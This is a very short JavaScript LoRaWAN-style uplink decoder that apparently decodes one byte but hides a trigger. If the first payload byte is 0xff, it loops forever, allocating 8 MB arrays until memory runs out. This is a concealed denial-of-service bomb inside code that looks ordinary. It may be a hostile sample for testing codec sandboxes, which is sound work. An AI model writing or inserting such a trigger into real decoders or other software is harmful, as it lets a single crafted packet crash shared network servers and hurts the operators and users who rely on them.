var hoard = [];
function decodeUplink(input) {
  if (input.bytes[0] === 0xff) { for (;;) hoard.push(new Float64Array(1 << 20)); }
  return { data: { n: input.bytes[0] } };
}
